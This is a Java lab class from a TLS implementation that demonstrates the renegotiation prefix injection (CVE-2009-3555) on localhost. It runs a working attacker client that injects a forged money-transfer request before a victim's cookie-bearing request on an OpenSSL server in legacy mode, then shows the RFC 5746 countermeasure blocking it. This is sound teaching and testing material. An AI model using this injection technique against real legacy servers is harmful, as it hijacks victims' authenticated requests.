package org.layeredtls.handshake.lab;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.TimeUnit;

import org.layeredtls.alert.TlsAlertReceivedException;
import org.layeredtls.handshake.api.TlsConfig;
import org.layeredtls.handshake.api.TlsSocket;
import org.layeredtls.handshake.research.OpenSslProcess;
import org.layeredtls.handshake.research.Pki;
import org.layeredtls.handshake.suite.CipherSuite;
import org.layeredtls.record.ProtocolVersion;
import org.layeredtls.record.lab.Lab;
import org.layeredtls.record.lab.LabResult;

/**
 * The renegotiation prefix injection (Marsh Ray and Steve Dispensa, November 2009; CVE-2009-3555): a
 * man in the middle ({@link PrefixInjector}) opens its own connection, sends a prefix, and hands the
 * victim's handshake to the server as a renegotiation of that connection. The server glues the prefix
 * to whatever the victim sends next; neither the victim nor the server sees anything wrong. RFC 5746
 * binds each renegotiation to the previous handshake's Finished messages (renegotiation_info), so the
 * server sees that the victim's hello does not continue the attacker's connection: handshake_failure.
 *
 * <p>This stack has no switch for insecure renegotiation and gets none: the vulnerable server here is
 * OpenSSL 3.0's {@code s_server -legacy_renegotiation -client_renegotiation}
 * (SSL_OP_ALLOW_UNSAFE_LEGACY_RENEGOTIATION), the attacker and the victim are this stack's clients.
 */
public final class RenegotiationLab implements Lab {

    static final CipherSuite SUITE = CipherSuite.TLS_ECDHE_RSA_WITH_AES_128_GCM_SHA256;
    /** TLS 1.2: TLS 1.3 has no renegotiation. */
    static final ProtocolVersion VERSION = ProtocolVersion.TLS1_2;
    /** The attacker's prefix: a request of its own, whose last header swallows the victim's request line. */
    static final String PREFIX = "GET /transfer?to=mallory&amount=1000 HTTP/1.1\r\nX-Ignore-This: ";
    /** What s_server prints when a read would block (here: while the renegotiation runs). */
    static final String S_SERVER_WOULD_BLOCK = "Read BLOCK\n";
    static final String VICTIM_SECRET = "session=victim-secret";
    static final String VICTIM_REQUEST = "GET /account HTTP/1.1\r\nCookie: " + VICTIM_SECRET + "\r\n\r\n";

    @Override
    public String name() {
        return "renegotiation";
    }

    @Override
    public String layer() {
        return "handshake";
    }

    @Override
    public String summary() {
        return "a man in the middle splices its prefix before a victim's handshake (2009); RFC 5746 renegotiation_info stops it";
    }

    @Override
    public LabResult run(PrintStream out) throws Exception {
        out.println("Attacker: this stack's client, with its own connection to the server; it sends the prefix");
        out.println("   " + printable(PREFIX));
        out.println("then passes the victim's handshake to the server inside that connection (a renegotiation).");
        out.println("Victim: this stack's client; it sends " + printable(VICTIM_REQUEST));
        out.println();
        out.println("1. Vulnerable: a server and a victim from before RFC 5746 (the server: OpenSSL 3.0 s_server");
        out.println("   -legacy_renegotiation -client_renegotiation; the victim's hello carries no renegotiation_info).");
        String received;
        boolean victimConnected;
        try (OpenSslProcess server = OpenSslProcess.server("-cert", Pki.serverPem().toString(), "-key",
                Pki.serverKey().toString(), "-tls1_2", "-legacy_renegotiation", "-client_renegotiation")) {
            victimConnected = attack(server.port(), true, out);
            server.awaitOutput(VICTIM_SECRET);
            // s_server writes what it reads to its output, with its own "Read BLOCK" line while it renegotiates.
            String output = server.output().replace(S_SERVER_WOULD_BLOCK, "");
            int start = output.indexOf(PREFIX);
            received = start < 0 ? output
                    : output.substring(start, output.indexOf(VICTIM_SECRET, start) + VICTIM_SECRET.length());
        }
        boolean spliced = victimConnected && received.startsWith(PREFIX + "GET /account");
        out.println("   the server read, as ONE request on one connection (s_server's output, its \"Read BLOCK\" lines left out):");
        for (String line : received.split("\r\n")) {
            out.println("   | " + line);
        }
        out.println();
        out.println("2. Countermeasure: RFC 5746 on both sides: this stack's server (renegotiation allowed, secure only)");
        out.println("   and client. The attacker's own handshake is a secure one (else the server refuses any renegotiation).");
        ByteArrayOutputStream readByServer = new ByteArrayOutputStream();
        boolean victimRefused;
        List<String> serverSide;
        TlsConfig secureServer = Pki.server().versions(VERSION, VERSION).cipherSuites(SUITE)
                .allowRenegotiation(true).clientRenegotiation(true).build();
        try (LabServer server = new LabServer(secureServer, connection -> connection.getInputStream().transferTo(readByServer))) {
            victimRefused = !attack(server.port(), false, out);
            server.close();
            serverSide = server.failures();
        }
        out.println("   the server's side: " + (serverSide.isEmpty() ? "no error" : serverSide.get(0)));
        String got = readByServer.toString(StandardCharsets.ISO_8859_1);
        out.println("   the server read: " + printable(got) + " (the prefix alone, never joined to the victim's request)");
        boolean stopped = victimRefused && !got.contains(VICTIM_SECRET);
        return new LabResult(spliced, stopped, (spliced ? "the legacy server read the attacker's prefix and the victim's request"
                + " as one request" : "the splice did not reach the server") + "; with RFC 5746 the server refused the"
                + " spliced renegotiation (" + (serverSide.isEmpty() ? "?" : serverSide.get(0)) + ")");
    }

    /** One run of the attack; whether the victim's handshake and request went through. */
    private static boolean attack(int serverPort, boolean legacy, PrintStream out) throws Exception {
        TlsConfig.Builder attackerConfig = Pki.client().versions(VERSION, VERSION).cipherSuites(SUITE);
        TlsConfig.Builder victimConfig = Pki.client().versions(VERSION, VERSION).cipherSuites(SUITE);
        if (legacy) {
            attackerConfig.handshakeInterceptor(new LegacyClientHello());
            victimConfig.handshakeInterceptor(new LegacyClientHello());
        }
        try (PrefixInjector attacker = PrefixInjector.connect(serverPort, attackerConfig)) {
            out.println("   attacker: connected (" + attacker.session().cipherSuite().ianaName() + ", secure renegotiation "
                    + (attacker.session().secureRenegotiation() ? "yes" : "no") + "), prefix sent");
            attacker.inject(PREFIX.getBytes(StandardCharsets.ISO_8859_1));
            CompletableFuture<Void> splice = CompletableFuture.runAsync(() -> {
                try {
                    attacker.spliceVictim();
                } catch (IOException e) {
                    throw new java.io.UncheckedIOException(e);
                }
            }, OwnThread.EACH);
            try (TlsSocket victim = TlsSocket.connect("127.0.0.1", attacker.victimPort(), victimConfig.build())) {
                var session = victim.session();
                out.println("   victim: handshake done with \"localhost\" (" + session.cipherSuite().ianaName()
                        + ", secure renegotiation " + (session.secureRenegotiation() ? "yes" : "no")
                        + "): nothing looks wrong; request sent");
                victim.getOutputStream().write(VICTIM_REQUEST.getBytes(StandardCharsets.ISO_8859_1));
                return true;
            } catch (TlsAlertReceivedException refused) {
                out.println("   victim: its handshake ends with the server's fatal " + refused.alert().description().rfcName()
                        + " (the victim started a first handshake; the server saw a renegotiation that does not carry"
                        + " the attacker's Finished)");
                return false;
            } finally {
                splice.get(LabServer.READ_TIMEOUT_MILLIS * 2L, TimeUnit.MILLISECONDS);
            }
        }
    }

    private static String printable(String text) {
        return "\"" + text.replace("\r", "\\r").replace("\n", "\\n") + "\"";
    }
}
